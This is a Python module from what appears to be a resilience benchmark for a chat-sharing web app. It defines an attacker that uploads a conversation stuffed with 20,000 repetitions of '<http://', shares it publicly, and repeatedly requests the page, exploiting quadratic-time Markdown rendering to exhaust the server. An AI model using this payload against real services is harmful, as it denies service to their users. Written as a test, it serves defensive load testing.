"""A shared page as a lever for many readers without an account.

Rendering its answer's Markdown takes quadratic time.
"""

import asyncio

from bench.report import Unmeasured
from bench.storm.attack.attacker import Attacker, AttackSite, Strike
from bench.storm.attack.exports import chatgpt

TIMES = 20_000
PATIENCE = 60.0


async def _prepare(site: AttackSite) -> Strike:
    await site.upload("/api/moving-in", chatgpt("<http://" * TIMES))
    conversation = await _moved_in(site)
    wish: dict[str, object] = {"up_to": None, "files": False, "calls": False}
    shown = await site.visitor.call("POST", f"/api/conversations/{conversation}/shares/preview", wish)
    shares = f"/api/conversations/{conversation}/shares"
    shared = await site.visitor.call("POST", shares, {**wish, "days": 1, "digest": shown.body["digest"]})
    if shared.status != 200:
        raise Unmeasured(f"an attacker could not share: {shared.sentence}")
    path = "/s/" + shared.body["link"].partition("/s/")[2]

    async def strike() -> None:
        await site.send("GET", path, {"Accept": "text/html"})

    return strike


async def _moved_in(site: AttackSite) -> str:
    """Return the conversation's id, once it exists."""
    async with asyncio.timeout(PATIENCE):
        while True:
            if found := (await site.visitor.call("GET", "/api/conversations")).body["conversations"]:
                return str(found[0]["id"])
            await asyncio.sleep(0.2)


SHARED_PAGE = Attacker("shared_page_as_lever", _prepare, at_once=8)
